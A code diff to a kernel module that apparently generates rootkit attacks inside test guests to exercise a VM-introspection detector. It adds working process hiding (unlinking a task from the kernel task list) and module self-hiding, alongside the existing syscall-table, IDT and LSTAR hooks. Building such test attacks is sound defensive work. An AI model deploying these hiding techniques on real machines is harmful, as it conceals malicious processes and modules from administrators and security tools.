@@ -4,7 +4,7 @@
  * as a kernel module loaded into a test guest (`cargo xtask vm attack`).
  * Each technique is undone when the module is removed, so the guest keeps
  * running. Parameters: kind=hook-syscall nr=N | patch-dispatch nr=N |
- * hook-idt vector=V | lstar cpu=C.
+ * hook-idt vector=V | lstar cpu=C | hide-pid pid=P | hide-module.
  *
  * - hook-syscall: sys_call_table[nr] points to this module (the table is
  *   read-only: written with CR0.WP cleared, as rootkits do).
@@ -16,12 +16,22 @@
  *   (0x80: no 32-bit programs in the test guest).
  * - lstar: MSR_LSTAR of CPU `cpu` points to a trampoline in this module
  *   that jumps to the real entry_SYSCALL_64 (no PTI in the test guests).
+ * - hide-pid: the task `pid` is unlinked from init_task.tasks (ps and
+ *   /proc no longer list it); keep it single-threaded and alive.
+ * - hide-module: this module unlinks itself from the module list and from
+ *   /sys/module. It cannot be removed afterwards (rmmod finds it by the
+ *   list): use it last on a throwaway guest.
  */
 #include <linux/module.h>
 #include <linux/kprobes.h>
 #include <linux/smp.h>
 #include <linux/string.h>
 #include <linux/irqflags.h>
+#include <linux/sched.h>
+#include <linux/sched/task.h>
+#include <linux/sched/signal.h>
+#include <linux/pid.h>
+#include <linux/rculist.h>
 #include <asm/msr.h>
 #include <asm/special_insns.h>
 #include <asm/processor-flags.h>
@@ -37,6 +47,11 @@ static int vector = -1;
 module_param(vector, int, 0444);
 static int cpu = -1;
 module_param(cpu, int, 0444);
+static int pid = -1;
+module_param(pid, int, 0444);
+
+static struct task_struct *hidden;
+static rwlock_t *tasklist;
 
 typedef unsigned long (*lookup_t)(const char *);
 typedef long (*sys_fn)(const struct pt_regs *);
@@ -170,6 +185,26 @@ static int __init attack_init(void)
 		err = smp_call_function_single(cpu, set_lstar, NULL, 1);
 		if (err)
 			return err;
+	} else if (!strcmp(kind, "hide-pid")) {
+		rcu_read_lock();
+		hidden = pid_task(find_vpid(pid), PIDTYPE_PID);
+		if (hidden)
+			get_task_struct(hidden);
+		rcu_read_unlock();
+		if (!hidden)
+			return -ESRCH;
+		/* tasklist_lock is not exported: rootkits look it up. */
+		tasklist = (rwlock_t *)lookup("tasklist_lock");
+		if (!tasklist) {
+			put_task_struct(hidden);
+			return -ENOENT;
+		}
+		write_lock_irq(tasklist);
+		list_del_init(&hidden->tasks);
+		write_unlock_irq(tasklist);
+	} else if (!strcmp(kind, "hide-module")) {
+		list_del_rcu(&THIS_MODULE->list);
+		kobject_del(&THIS_MODULE->mkobj.kobj);
 	} else {
 		return -EINVAL;
 	}
@@ -190,6 +225,12 @@ static void __exit attack_exit(void)
 		poke(gate, orig_gate, 16);
 	else if (!strcmp(kind, "lstar"))
 		smp_call_function_single(cpu, reset_lstar, NULL, 1);
+	else if (!strcmp(kind, "hide-pid")) {
+		write_lock_irq(tasklist);
+		list_add_tail_rcu(&hidden->tasks, &init_task.tasks);
+		write_unlock_irq(tasklist);
+		put_task_struct(hidden);
+	}
 	pr_info("smmvmi_attack: %s undone\n", kind);
 }
 
